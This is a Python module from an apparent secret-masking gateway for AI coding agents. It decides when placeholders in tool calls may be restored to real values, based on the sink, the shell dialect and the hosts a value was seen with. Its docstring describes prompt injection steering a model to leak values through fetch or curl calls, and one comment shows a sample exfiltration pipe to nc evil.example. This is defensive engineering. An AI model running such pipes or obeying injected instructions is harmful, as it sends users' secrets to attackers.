"""Restore by provenance: which placeholders in a tool call the model wrote become real values.

Restoring into prose shown to the user is safe (the user owns the value). A tool call acts, and whoever steers
the model (a prompt injection in a file it read) can ask it to write a placeholder where the attacker can read
it: a ``WebFetch`` URL, a ``curl`` to a foreign host. So in tool-call inputs a value comes back only where it
belongs (the sink table in ``data/sinks.toml``):

- file writes and local tools: restored
- shell commands: restored, quoted for their shell context, unless the command can reach a host the value was
  never seen with (its provider's hosts, hosts seen beside it, hosts the user allows), or hides its destination.
  The shell is the program that runs the script (``bash -c``, ``pwsh -Command``, ``cmd /c``; argv lists and command
  strings alike), the shell a tool or an argument field declares (Claude Code's ``PowerShell`` tool, a ``shell``
  field), else POSIX; its dialect (``dialects``) quotes the value, and cmd.exe restores nothing
- fetch, sub-agent, MCP and unknown tools: kept, unless the user's policy allows the tool

Every kept placeholder is reported (tool, field, reason) so the gateway can show a notice and write an audit line.
"""

from __future__ import annotations

import fnmatch
import functools
import ipaddress
import json
import shlex
from collections import Counter
from collections.abc import Callable
from dataclasses import dataclass
from typing import Any

from ..._data import data_path, load_toml
from ...policy import RestoreSettings
from ...vault import PLACEHOLDER_RE, Vault
from . import credentials
from .commands import analyse, argv_source, reread, script_changer
from .destinations import Destinations, ShellRules, destinations
from .dialects import (CMD, POSIX, POWERSHELL, UNKNOWN_SHELL, Dialect, decode_encoded_command, dialect_for, mentions,
                       names_windows_shell, powershell_call, powershell_evaluators, restore_script, shell_facts,
                       tool_dialect)
from .dialects.nesting import last_word_start, replace_last_word
from .dialects.posix_grammar import Script, command_at, parse
from .files import auto_run, match_field, normalise, patch_files, patch_section_is_script, resolved, target_path
from .urls import for_position, url_component



@dataclass(frozen=True)
class Sinks:
    kinds: dict[str, str]  # tool name -> sink kind
    command_fields: frozenset[str]
    command_lists: frozenset[str]  # fields holding a list of commands (Responses shell_call.action.commands)
    local_fields: frozenset[str]  # other fields of a shell tool that only name local things (workdir)
    shell: ShellRules
    provider_hosts: dict[str, tuple[str, ...]]
    powershell: ShellRules  # shell, with PowerShell's network cmdlets (names in lower case)
    powershell_network_types: tuple[str, ...]

    def kind(self, tool: str) -> str:
        if tool in self.kinds:
            return self.kinds[tool]
        if tool.startswith("mcp__"):
            return "mcp"
        return "unknown"


@functools.cache
def sinks() -> Sinks:
    raw = load_toml(data_path("sinks.toml"))
    kinds = {name: kind for kind, names in raw["tools"].items() for name in names}
    sh = raw["shell"]
    rules = ShellRules(
        network_programs=frozenset(sh["network_programs"]),
        ssh_like=frozenset(sh["ssh_like"]),
        positional_host=frozenset(sh["positional_host"]),
        host_flags={k: frozenset(v) for k, v in sh["host_flags"].items()},
        interpreters=frozenset(sh["interpreters"]),
        inline_flags=frozenset(sh["inline_flags"]),
        hidden_programs=frozenset(sh["hidden_programs"]),
        decoders=frozenset(sh["decoders"]),
        shells=frozenset(k.lower() for k, v in sh["dialects"].items() if v == "posix"),
        network_subcommands={k: frozenset(v) for k, v in sh["network_subcommands"].items()},
        needs_no_host=frozenset(sh["needs_no_host"]),
    )
    ps = sh["powershell"]
    ps_rules = ShellRules(
        network_programs=rules.network_programs | frozenset(ps["network_programs"]),
        ssh_like=rules.ssh_like,
        positional_host=rules.positional_host | frozenset(ps["positional_host"]),
        host_flags={**rules.host_flags, **{k: frozenset(v) for k, v in ps["host_flags"].items()}},
        interpreters=rules.interpreters,
        inline_flags=rules.inline_flags | {"-command"},
        hidden_programs=rules.hidden_programs,
        decoders=rules.decoders,
        shells=rules.shells,
        network_subcommands=rules.network_subcommands,
        needs_no_host=rules.needs_no_host,
    )
    return Sinks(kinds, frozenset(sh["command_fields"]), frozenset(sh["command_lists"]), frozenset(sh["local_fields"]), rules,
                 {k: tuple(v) for k, v in raw["provider_hosts"].items()}, ps_rules, tuple(ps["network_types"]))


@functools.cache
def _rule_providers() -> dict[str, str]:
    from ...detect.rules import load_rules

    return {r.id: r.provider for r in load_rules() if r.provider}


def provider_hosts(detector: str) -> tuple[str, ...]:
    """The provider's own hosts for a span found by ``detector`` (``rule-id``, ``repeat:rule-id`` …)."""
    rule = detector.rsplit(":", 1)[-1]
    provider = _rule_providers().get(rule)
    return sinks().provider_hosts.get(provider, ()) if provider else ()


def is_loopback(host: str) -> bool:
    """``localhost`` or a loopback address literal (``127.0.0.0/8``, ``::1``); never a name that merely starts with
    ``127.`` (``127.evil.example`` is whatever its owner's DNS says)."""
    host = host.lower().rstrip(".").strip("[]")
    if host == "localhost":
        return True
    try:
        return ipaddress.ip_address(host).is_loopback or host == "0.0.0.0"
    except ValueError:
        return False


def host_allowed(host: str, patterns: set[str] | frozenset[str] | tuple[str, ...]) -> bool:
    host = host.lower().rstrip(".")
    if is_loopback(host):
        return True
    for p in patterns:
        p = p.lower()
        if p.startswith("*."):
            if host == p[2:] or host.endswith(p[1:]):
                return True
        elif host == p:
            return True
    return False


@dataclass(frozen=True)
class Kept:
    placeholder: str
    tool: str
    field: str
    reason: str


class ToolRestorer:
    """Restores one session's placeholders in tool-call inputs according to the sink table and the policy."""

    def __init__(self, vault: Vault, settings: RestoreSettings) -> None:
        self.vault = vault
        self.settings = settings
        self.sinks = sinks()
        # placeholder -> category of every value handed to a command (or a tool the user allowed): what it prints
        # may carry the value back in any transformed copy (the session masks those: ``detect/taint.py``). A value
        # written into a file is not on it: it comes back as it was written, which the known-value pass masks
        self.handed: dict[str, str] = {}

    def _note_handed(self, before: str, after: str, sink: str = "shell") -> None:
        if sink in ("file", "local"):
            return
        counts = Counter(m.group() for m in PLACEHOLDER_RE.finditer(before))
        if not counts:
            return
        left = Counter(m.group() for m in PLACEHOLDER_RE.finditer(after))
        for ph, n in counts.items():
            if left[ph] < n and ph not in self.handed:
                entry = self.vault.entry(ph)
                if entry is not None:
                    self.handed[ph] = entry[0]

    # -- decisions -------------------------------------------------------------------------------
    def _mode(self, placeholder: str) -> str:
        entry = self.vault.entry(placeholder)
        return self.settings.categories.get(entry[0], "provenance") if entry else "provenance"

    def _secret(self, placeholder: str) -> bool:
        """Decided as a secret: restored only as a credential or into a file (``[restore] secrets``)."""
        entry = self.vault.entry(placeholder)
        return entry is not None and entry[0] == "secret" and self.settings.secrets != "anywhere"

    def allowed_host(self, placeholder: str) -> Callable[[str], bool]:
        """Whether a destination host is one the value belongs to: its provider's API hosts and the host of the URL
        it was first seen in (both recorded at mask time), a host the user allows, or this machine."""
        hosts = set(self.vault.provenance(placeholder).hosts) | set(self.settings.allow_hosts)
        return lambda host: host_allowed(host, hosts)

    def _decide(self, placeholder: str, sink: str, tool: str, at: Callable[[], str | None] | None = None) -> str | None:
        """None to restore, else why the placeholder stays. ``at``: the check of the placeholder's place in a
        command (shell sinks) or file (file sinks), run only when the sink and the category need it."""
        mode = self._mode(placeholder)
        if mode == "never":
            return "the policy never restores this category into tool calls"
        if self._secret(placeholder):
            secrets = self.settings.secrets
            if secrets == "never":
                return "the policy never restores secrets into tool calls"
            if sink == "allowed":
                return None
            if sink == "file":
                return at() if at is not None else None
            if sink == "shell" and secrets == "credentials":
                return at() if at is not None else "a secret is restored only as a credential of a request to its own host"
            if sink == "shell":
                return "the policy restores secrets into files only"
            return f"a secret is restored only into files and credentials, not into {tool}"
        if mode == "always" or sink in ("local", "allowed"):
            return None
        if sink in ("file", "shell"):
            return at() if at is not None and sink == "shell" else None
        return {
            "fetch": f"{tool} fetches from the web",
            "agent": f"{tool} hands text to another model",
            "mcp": f"{tool} is an MCP tool the policy does not allow",
            "stdin": f"{tool} types into a running program that coatcheck cannot see",
        }.get(sink, f"{tool} is not a tool coatcheck knows")

    def _sink(self, tool: str) -> str:
        """The sink kind of ``tool``: ``allowed`` when the policy's ``allow_tools`` matches its name. MCP tools are
        named ``mcp__server__tool`` on every API (Claude Code's own names; Codex's ``namespace`` + ``name`` are
        joined into that form by the API modules), so one pattern (``mcp__crm__*``) matches both clients."""
        if any(fnmatch.fnmatchcase(tool, pat) for pat in self.settings.allow_tools):
            return "allowed"
        return self.sinks.kind(tool)

    # -- restoring -------------------------------------------------------------------------------
    def _value(self, placeholder: str) -> str | None:
        return self.vault.lookup(placeholder)

    def _plain(self, text: str, decide: Callable[[str, int], str | None], kept: list[Kept], tool: str, field: str) -> str:
        out: list[str] = []
        pos = 0
        for m in PLACEHOLDER_RE.finditer(text):
            value = self._value(m.group())
            if value is None:
                continue
            reason = decide(m.group(), m.start())
            if reason is None:
                inserted = for_position(text, m.start(), value)
                if inserted is None:
                    reason = "the value cannot be written into this part of a URL"
            if reason is not None:
                kept.append(Kept(m.group(), tool, field, reason))
                continue
            out.append(text[pos:m.start()])
            out.append(inserted)  # type: ignore[arg-type]
            pos = m.end()
        out.append(text[pos:])
        return "".join(out)

    def _file_check(self, placeholder: str, path: str | None, content: str | None, field: str) -> str | None:
        """Where a secret may be written: a file it was read from, or a file that does not run by itself."""
        if match_field(field.rsplit(".", 1)[-1]):
            return None  # Edit's old_string only matches text already in the file
        if path is None:
            return "the tool call names no file coatcheck can check"
        target = normalise(path)
        for source in self.vault.provenance(placeholder).sources:
            _, _, read = source.partition(":")
            if read and normalise(read) == target:
                return None
        pattern = auto_run(path) or auto_run(resolved(path))
        if pattern is not None:
            return f"{path.rsplit('/', 1)[-1][:60]} runs by itself or is code ({pattern})"
        if content is not None and content.lstrip().startswith("#!"):
            return "the file is a script (#!)"
        return None

    def _command(self, cmd: str, sink: str, tool: str, field: str, kept: list[Kept], dialect: Dialect | None = None) -> str:
        """Shell source ``cmd``, in ``dialect`` (else the tool's, else POSIX), with placeholders restored where
        they belong and quoted for their context."""
        dialect = dialect or tool_dialect(tool) or POSIX
        if dialect is POSIX:
            nested = self._posix_runs_windows_shell(cmd, sink, tool, field, kept)
            if nested is not None:
                return nested
            return self._posix(cmd, sink, tool, field, kept)
        if dialect is POWERSHELL:
            handed = mentions(cmd, powershell_evaluators())
            if handed:
                return self._keep(cmd, tool, field, kept, f"the script hands text to {handed}, which reads it again")
        dest: list[Destinations] = []  # read once, when a personal value first needs it (cmd.exe never does)

        def network(ph: str) -> str | None:
            if not dest:
                dest.append(self._destinations(cmd, dialect))
            return self._network(ph, dest[0])

        secret_reason = "credential positions are read in POSIX shell commands only"
        result = restore_script(cmd, self._value, lambda ph, _at: self._decide(
            ph, sink, tool, (lambda: secret_reason) if self._secret(ph) else (lambda: network(ph))), dialect)
        kept.extend(Kept(ph, tool, field, why) for ph, why in result.kept)
        return result.text

    def _network(self, placeholder: str, dest: Destinations) -> str | None:
        if not dest.network:
            return None
        if dest.hidden:
            return "the command may reach a host it does not name"
        allowed = self.allowed_host(placeholder)
        foreign = sorted(h for h in dest.hosts if not allowed(h))
        if foreign:
            return f"the value was never seen with {', '.join(foreign[:3])}"
        return None

    def _posix(self, cmd: str, sink: str, tool: str, field: str, kept: list[Kept], source: str | None = None,
               starts: list[int] | None = None) -> str:
        """POSIX source read with the shell grammar: personal data by destinations (every host the script can
        reach must be one the value was seen with) and never where a second program reads it as code; secrets only
        in a credential position (``credentials.py``)."""
        try:
            script = parse(cmd)
        except ValueError:
            return self._keep(cmd, tool, field, kept, "the command's quoting could not be followed")
        dest: list[Destinations] = []

        def place(ph: str, offset: int) -> str | None:
            return self._place(script, cmd, offset, ph, dest)

        result = restore_script(cmd, self._value, lambda ph, at: self._decide(ph, sink, tool, lambda: place(ph, at)), POSIX)
        kept.extend(Kept(ph, tool, field, why) for ph, why in result.kept)
        return result.text

    def _place(self, script: Script, text: str, offset: int, ph: str, dest: list[Destinations]) -> str | None:
        """Why the placeholder at ``offset`` of a parsed POSIX command stays, or None to restore it. ``dest`` caches
        the script's destinations (computed once, when a personal value first needs them)."""
        if self._secret(ph):
            why = credentials.decide(script, offset, ph, self.allowed_host(ph), command_at)
            if why is not None:
                return why
            changer = script_changer(script)
            if changer:  # trap '… $BASH_COMMAND …' DEBUG, hash -p ./x curl: the script sees or re-points the call
                return f"the script uses {changer}, which can see or change what the credential's command does"
            # the rest of the script must not reach anywhere else either: a pipe or a redirection can carry what
            # the credential's command prints (``curl … 2>&1 | nc evil.example 80``)
            if not dest:
                dest.append(analyse(script, self.sinks.shell))
            return self._network(ph, dest[0])
        found = command_at(script, offset)
        if found is not None:
            why = reread(script, *found, self.sinks.shell)
            if why:
                return why
        if _in_host_label(text, offset, ph):
            return "the value would be part of a host name (a DNS lookup reaches the host's owner)"
        if not dest:
            dest.append(analyse(script, self.sinks.shell))
        return self._network(ph, dest[0])

    def _destinations(self, cmd: str, dialect: Dialect) -> Destinations:
        if dialect is POWERSHELL:  # cmdlets and .NET types are case-insensitive
            raw = self._raw(cmd).lower()
            dest = destinations(raw, self.sinks.powershell)
            if any(t in raw for t in self.sinks.powershell_network_types):
                return Destinations(True, dest.hosts, True)
            return dest
        return destinations(self._raw(cmd), self.sinks.shell)

    def _keep(self, text: str, tool: str, field: str, kept: list[Kept], reason: str) -> str:
        """``text`` as it is; every placeholder the vault knows in it is kept, with ``reason``."""
        kept.extend(Kept(m.group(), tool, field, reason) for m in PLACEHOLDER_RE.finditer(text) if self._value(m.group()) is not None)
        return text

    def _posix_runs_windows_shell(self, cmd: str, sink: str, tool: str, field: str, kept: list[Kept]) -> str | None:
        """POSIX source that runs PowerShell or cmd.exe: restored into a ``pwsh -Command '…'`` script when that
        is the whole command and its outer quoting can be rebuilt, else every placeholder kept. None for a plain
        POSIX command."""
        try:
            words = shlex.split(cmd)
        except ValueError:
            words = []
        first = dialect_for(words[0]) if words else None
        if first is CMD:
            return self._keep(cmd, tool, field, kept, CMD.refusal)
        if first is POWERSHELL:
            return self._nested_powershell(cmd, words, sink, tool, field, kept)
        found = names_windows_shell(cmd)
        if found:
            return self._keep(cmd, tool, field, kept, f"the command runs {found} inside a POSIX command, whose quoting is not followed")
        if mentions(cmd, shell_facts().ps_markers):
            return self._keep(cmd, tool, field, kept, "the command looks like PowerShell, but the tool runs POSIX shell commands")
        return None

    def _nested_powershell(self, cmd: str, words: list[str], sink: str, tool: str, field: str, kept: list[Kept]) -> str:
        call = powershell_call(words)
        if call.script is None or call.script != len(words) - 1:
            return self._keep(cmd, tool, field, kept, call.problem or self._no_script(call.encoded))
        start = last_word_start(cmd, words)
        if start is None:
            return self._keep(cmd, tool, field, kept, "the PowerShell script's POSIX quoting could not be followed")
        self._keep(cmd[:start], tool, field, kept, "the placeholder is on the PowerShell command line, outside its script")
        inner_kept: list[Kept] = []
        inner = self._command(words[-1], sink, tool, field, inner_kept, POWERSHELL)
        if inner != words[-1]:
            rebuilt = replace_last_word(cmd, start, words, inner)
            if rebuilt is None:
                return self._keep(cmd[start:], tool, field, kept, "restoring would change the command's structure")
            kept.extend(inner_kept)
            return rebuilt
        kept.extend(inner_kept)
        return cmd

    @staticmethod
    def _no_script(encoded: int | None) -> str:
        if encoded is not None:
            return "the PowerShell script is base64-encoded (-EncodedCommand); the placeholder is kept"
        return "the PowerShell command line has no script coatcheck can follow"

    def _raw(self, text: str) -> str:
        """``text`` with every known placeholder restored raw: what the command would look like when it runs."""
        return PLACEHOLDER_RE.sub(lambda m: self._value(m.group()) or m.group(), text)

    def _argv(self, argv: list[str], sink: str, tool: str, field: str, kept: list[Kept]) -> list[str]:
        """An argv list: a shell's script (``sh -c SCRIPT``, ``pwsh -Command SCRIPT``) is shell source in that
        shell's dialect, cmd.exe's command line is never restored; other elements are single arguments (no shell
        parses them), restored raw when the whole command's destinations allow it."""
        dialect = dialect_for(argv[0]) if argv else None
        if dialect is POSIX:
            i = 1
            while i < len(argv) and argv[i].startswith("-") and argv[i] not in self.sinks.shell.inline_flags:
                i += 1
            if i + 1 < len(argv) and argv[i] in self.sinks.shell.inline_flags:
                head = self._keep_elements(argv, 1, i + 1, tool, field, kept, "the placeholder is among the shell's options")
                script = self._command(argv[i + 1], sink, tool, f"{field}[{i + 1}]", kept, POSIX)
                self._keep_elements(argv, i + 2, len(argv), tool, field, kept, "the script's arguments are read by the script")
                return [*head, script, *argv[i + 2:]]
        if dialect is CMD:
            return self._keep_elements(argv, 1, len(argv), tool, field, kept, CMD.refusal)
        if dialect is POWERSHELL:
            return self._powershell_argv(argv, sink, tool, field, kept)
        return self._argv_elements(argv, 0, sink, tool, field, kept)

    def _keep_elements(self, argv: list[str], first: int, last: int, tool: str, field: str, kept: list[Kept], reason: str) -> list[str]:
        for i in range(first, last):
            self._keep(argv[i], tool, f"{field}[{i}]", kept, reason)
        return argv[:last]

    def _powershell_argv(self, argv: list[str], sink: str, tool: str, field: str, kept: list[Kept]) -> list[str]:
        call = powershell_call(argv)
        outside = "the placeholder is on the PowerShell command line, outside its script"
        if call.script is not None and call.script == len(argv) - 1 and call.problem is None:
            head = self._keep_elements(argv, 1, call.script, tool, field, kept, outside)
            return [*head, self._command(argv[call.script], sink, tool, f"{field}[{call.script}]", kept, POWERSHELL)]
        if call.file is not None:  # -File PATH ARGS…: the script's arguments, single arguments as for any program
            head = self._keep_elements(argv, 1, call.file, tool, field, kept, outside)
            return [*head, *self._argv_elements(argv, call.file, sink, tool, field, kept)]
        if call.encoded is not None:
            script = decode_encoded_command(argv[call.encoded]) or ""
            self._keep(script, tool, f"{field}[{call.encoded}]", kept, self._no_script(call.encoded))
            return self._keep_elements(argv, 1, len(argv), tool, field, kept, outside)
        return self._keep_elements(argv, 1, len(argv), tool, field, kept, call.problem or self._no_script(None))

    def _argv_elements(self, argv: list[str], first: int, sink: str, tool: str, field: str, kept: list[Kept]) -> list[str]:
        """Single arguments (no shell parses them): read with the grammar as the command they are, each restored
        raw where the place and the command's destinations allow it."""
        if not any(PLACEHOLDER_RE.search(a) for a in argv[first:]):
            return argv[first:]
        source, starts = argv_source(argv)
        try:
            script = parse(source)
        except ValueError:
            return self._keep_elements(argv, first, len(argv), tool, field, kept, "the command could not be read")[first:]
        dest: list[Destinations] = []
        out = []
        for i, a in enumerate(argv[first:], first):
            if not PLACEHOLDER_RE.search(a):
                out.append(a)
                continue
            out.append(self._plain(a, self._argv_decider(script, source, starts[i], sink, tool, dest), kept, tool, f"{field}[{i}]"))
        return out

    def _argv_decider(self, script: Script, source: str, at: int, sink: str, tool: str,
                      dest: list[Destinations]) -> Callable[[str, int], str | None]:
        return lambda ph, _offset: self._decide(ph, sink, tool, lambda: self._place(script, source, at, ph, dest))

    def _declared_dialect(self, args: dict[str, Any]) -> Dialect | None:
        """The dialect of the shell an argument object names (Codex ``exec_command``'s ``shell``); an unknown
        shell restores nothing."""
        for name in shell_facts().shell_fields:
            program = args.get(name)
            if isinstance(program, str) and program.strip():  # a path, or a program and its options
                return dialect_for(program) or dialect_for(program.split()[0]) or UNKNOWN_SHELL
        return None

    def restore_input(self, tool: str, args: Any) -> tuple[Any, list[Kept]]:
        """A tool call's input object with placeholders restored where they belong, and what was kept."""
        sink = self._sink(tool)
        kept: list[Kept] = []
        path = target_path(args) if sink in ("file", "allowed") else None
        content = next((args[k] for k in ("content", "new_string", "new_str", "new_source", "file_text")
                        if isinstance(args, dict) and isinstance(args.get(k), str)), None)
        shell_like = sink in ("shell", "allowed") and self.sinks.kind(tool) == "shell"

        def plain(value: str, field: str) -> str:
            if sink == "shell" and field.rsplit(".", 1)[-1] not in self.sinks.local_fields:
                return self._keep(value, tool, field, kept, "the field is not one coatcheck reads as a command")
            local = "local" if sink == "shell" else sink
            return self._plain(value, lambda ph, _at: self._decide(
                ph, local, tool, lambda: self._file_check(ph, path, content, field)), kept, tool, field)

        def walk(value: Any, field: str, key: str | None, dialect: Dialect | None) -> Any:
            if isinstance(value, str):
                if not PLACEHOLDER_RE.search(value):
                    return value
                if shell_like and key in self.sinks.command_fields:
                    return self._command(value, sink, tool, field, kept, dialect)
                return plain(value, field)
            if isinstance(value, list):
                if shell_like and key in self.sinks.command_fields and all(isinstance(v, str) for v in value):
                    return self._argv(value, sink, tool, field, kept)
                if shell_like and key in self.sinks.command_lists and all(isinstance(v, str) for v in value):
                    return [self._command(v, sink, tool, f"{field}[{i}]", kept, dialect) for i, v in enumerate(value)]
                return [walk(v, f"{field}[{i}]", key, dialect) for i, v in enumerate(value)]
            if isinstance(value, dict):
                inner = self._declared_dialect(value) or dialect
                return {k: walk(v, f"{field}.{k}" if field else k, k, inner) for k, v in value.items()}
            return value

        restored = walk(args, "", None, None)
        if kept and self.sinks.kind(tool) == "file":
            return args, self._all_or_nothing(tool, json.dumps(args, ensure_ascii=False), kept)
        self._note_handed(json.dumps(args, ensure_ascii=False), json.dumps(restored, ensure_ascii=False), sink)
        return restored, kept

    def _all_or_nothing(self, tool: str, text: str, kept: list[Kept]) -> list[Kept]:
        """A file edit restores all of its placeholders or none: restoring the text it matches but not the text it
        writes would put a placeholder over the value in the file, silently; unrestored, the edit fails visibly."""
        held = {k.placeholder for k in kept}
        why = "the same edit keeps another placeholder, so nothing in it is restored"
        return kept + [Kept(m.group(), tool, "input", why) for m in PLACEHOLDER_RE.finditer(text)
                       if m.group() not in held and self._value(m.group()) is not None]

    def refuse(self, tool: str, text: str, reason: str) -> list[Kept]:
        """Every placeholder the vault knows in ``text``, kept with ``reason`` (nothing is restored)."""
        return [Kept(m.group(), tool, "input", reason) for m in PLACEHOLDER_RE.finditer(text) if self._value(m.group()) is not None]

    def restore_arguments(self, tool: str, source: str) -> tuple[str, list[Kept]]:
        """Tool-call arguments given as JSON source (OpenAI): restored JSON source. Unchanged bytes when nothing
        is restored; every placeholder kept when the source is not valid JSON."""
        if not PLACEHOLDER_RE.search(source):
            return source, []
        try:
            args = json.loads(source)
        except ValueError:
            return source, [Kept(m.group(), tool, "arguments", "the arguments are not valid JSON")
                            for m in PLACEHOLDER_RE.finditer(source) if self._value(m.group()) is not None]
        restored, kept = self.restore_input(tool, args)
        if restored == args:
            return source, kept
        return json.dumps(restored, ensure_ascii=False), kept

    def restore_text(self, tool: str, text: str) -> tuple[str, list[Kept]]:
        """Free-text tool input (Responses custom tools such as Codex's ``apply_patch``: each file section is
        checked against the file it writes)."""
        sink = self._sink(tool)
        kept: list[Kept] = []
        if sink == "shell":
            restored = self._command(text, sink, tool, "input", kept)
            self._note_handed(text, restored)
            return restored, kept
        sections = patch_files(text) if sink in ("file", "allowed") else []

        def file_of(offset: int) -> tuple[str | None, str | None]:
            """The file the patch section at ``offset`` writes, and "#!" when that section adds a script."""
            found: tuple[str | None, str | None] = (None, None)
            for start, name in sections:
                if start > offset:
                    break
                found = (name, "#!" if patch_section_is_script(text, start) else None)
            return found

        restored = self._plain(text, lambda ph, at: self._decide(
            ph, sink, tool, lambda: self._file_check(ph, *file_of(at), _patch_field(text, at))), kept, tool, "input")
        if kept and self.sinks.kind(tool) == "file":
            return text, self._all_or_nothing(tool, text, kept)
        self._note_handed(text, restored, sink)
        return restored, kept


def _patch_field(patch: str, offset: int) -> str:
    """``old_string`` for a patch line that only matches (context `` `` and removed ``-`` lines), ``input`` for one
    that writes (``+`` lines, headers)."""
    line = patch[patch.rfind("\n", 0, offset) + 1:offset + 1]
    return "old_string" if line[:1] in (" ", "-") else "input"


def _in_host_label(text: str, offset: int, placeholder: str) -> bool:
    """The placeholder is (part of) a host name: in a URL's host, or followed by ``.label`` (``PH.evil.example``)."""
    end = offset + len(placeholder)
    if end + 1 < len(text) and text[end] == "." and text[end + 1].isalnum():
        return True
    return url_component(text, offset) == "host"


def notice(kept: list[Kept]) -> str:
    """One line the agent and the user can read; placeholders and tool names only, never a value."""
    seen: dict[tuple[str, str, str], str] = {}
    for k in kept:
        seen.setdefault((k.placeholder, k.tool, k.field), k.reason)
    # one line: a notice is recognised line by line when the client sends it back (``wire/apis/notices.py``)
    parts = [" ".join(f"{ph} in {tool}.{field} ({why})".split()) for (ph, tool, field), why in list(seen.items())[:5]]
    more = f" and {len(seen) - 5} more" if len(seen) > 5 else ""
    return (f"[coatcheck] kept {len(seen)} placeholder(s) in tool calls instead of the real value: "
            + "; ".join(parts) + more + ". To allow it, add the tool to [restore] allow_tools or the host to "
            "[restore] allow_hosts in the coatcheck policy.")
